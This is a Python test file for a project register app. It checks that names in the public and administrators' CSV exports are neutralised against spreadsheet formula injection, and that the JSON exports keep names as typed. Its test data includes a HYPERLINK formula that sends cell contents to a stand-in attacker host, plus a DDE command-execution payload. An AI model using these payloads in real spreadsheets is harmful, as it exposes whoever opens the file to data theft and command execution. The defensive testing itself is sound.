"""A project's name typed by an agent, read in a spreadsheet: text, never a formula.

The public register's CSV (`register site`) and the administrators' export (`export
register`) carry what agents typed. Before, a project named `=HYPERLINK(...)` became a live
formula in the cell of whoever opened the file in Excel or LibreOffice. Now such a cell
starts with an apostrophe (OWASP's advice), and the JSON downloads keep the name as typed.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from adapters.console.cli import cli
from bot.app import App
from bot.csv_cells import TRIGGERS, inert
from bot.register import publish
from bot.register_site import write_site
from bot.settings import Settings
from tests.bot.journeys import open_with_reviewers
from tests.bot.register_journeys import LEAD, REVIEWERS, decide, details, triage

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'
NAMES = [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+33 1 23", "-2+3", "Menus = bons"]


@pytest.fixture
def register_app(settings: Settings, tmp_path: Path) -> App:
    app = open_with_reviewers(settings, tmp_path, REVIEWERS)
    yield app
    app.close()


def test_the_public_register_csv_shows_names_as_text(register_app: App, tmp_path: Path) -> None:
    for name in NAMES:
        triage_id = triage(register_app, "01-school-meals-grid-example", name)
        publish(register_app, LEAD, triage_id, details(), "fr")
    write_site(register_app, tmp_path / "site", diagram=False)

    table = list(
        csv.DictReader(io.StringIO((tmp_path / "site/fr/register.csv").read_text()), delimiter=";")
    )
    shown = {row["name"] for row in table}
    assert shown == {("'" + n if n[0] in "=+-@\t" else n) for n in NAMES}
    typed = {d["name"] for d in json.loads((tmp_path / "site/fr/register.json").read_text())}
    assert typed == set(NAMES)


def test_the_administrators_export_shows_names_as_text(
    register_app: App, settings: Settings
) -> None:
    triage_id = triage(register_app, "06-di-ia-auto-incompatible", FORMULA)
    decide(register_app, triage_id, {"action": "claim"}, {"action": "confirm"})
    env = {
        "BOUSSOLE_DATABASE_URL": settings.database_url,
        "BOUSSOLE_DATA_DIR": str(settings.data_dir),
    }
    exported = CliRunner().invoke(cli, ["export", "register"], env=env)
    assert exported.exit_code == 0, exported.output
    (row,) = [
        r for r in csv.DictReader(io.StringIO(exported.output)) if r["triage_id"] == triage_id
    ]
    assert "'" + FORMULA in row.values()
    assert FORMULA not in row.values()
    as_json = CliRunner().invoke(cli, ["export", "register", "--format", "json"], env=env)
    assert FORMULA in as_json.output.replace('\\"', '"')


@given(st.text(max_size=30) | st.tuples(st.sampled_from(TRIGGERS), st.text()).map("".join))
def test_no_cell_starts_a_formula_and_nothing_else_changes(text: str) -> None:
    cell = inert(text)
    assert not cell.startswith(TRIGGERS)
    assert cell in (text, "'" + text)
    assert (cell == text) == (not text.startswith(TRIGGERS))
